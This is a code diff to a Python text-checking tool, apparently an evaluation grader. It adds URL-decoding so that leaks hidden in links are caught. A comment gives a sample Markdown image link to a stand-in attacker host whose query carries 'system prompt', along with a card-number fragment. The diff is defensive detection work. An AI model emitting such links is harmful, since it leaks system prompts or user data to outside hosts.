@@ -619,14 +619,21 @@ def _rendered(form):
     return _text_form(_unmarked(form)) if _MARKUP.search(form) else form
 
 
+# URL encoding, as in a link or an image whose query carries what is said ("![x](https://evil
+# .example/?q=system%20prompt)", "?card=4111+1111+..."): read decoded too.
+_URL_ENCODED = re.compile(r"%[0-9a-f]{2}|[^\W_]\+[^\W_]")
+
+
 @functools.lru_cache(maxsize=8)
 def readings(text):
     """Every form a text is read in when what it says must be caught (excludes, claims, leak,
-    a stated value): text_form(), with each invisible character read as a space too, and each
-    of those as its markup renders (see _rendered). A phrase in any of them is said."""
+    a stated value): text_form(), with each invisible character read as a space too, each of
+    those URL-decoded (%20 and + as a space) and each as its markup renders (see _rendered).
+    A phrase in any of them is said."""
     if not isinstance(text, str):
         return ("",)
     forms = [text_form(text)] + ([_spaced_form(text)] if _invisible_in(text) else [])
+    forms += [_text_form(urllib.parse.unquote_plus(form)) for form in forms if _URL_ENCODED.search(form)]
     return tuple(dict.fromkeys(forms + [_rendered(form) for form in forms]))
 
 
@@ -5729,7 +5736,7 @@ def catalogue():
         "clarification, claims) reads both sides in NFKC, any script's decimal digits as ASCII digits, format "
         "characters such as zero-width spaces removed, case folded, whitespace folded; excludes, leak, claims and "
         "a stated value also read an invisible character as a space and the answer as its Markdown/HTML markup "
-        "renders (**lifetime** access); "
+        "renders (**lifetime** access) and URL-decoded (%20); "
         "masks (--redact, --redact-pii) read through invisible characters",
         f"  similarity             the exact difflib ratio for texts up to {SIMILARITY_PREFIX:,} characters whose "
         f"matching fits {SIMILARITY_WORK:,} counted steps; above, the least of the ratio of the first and last N "
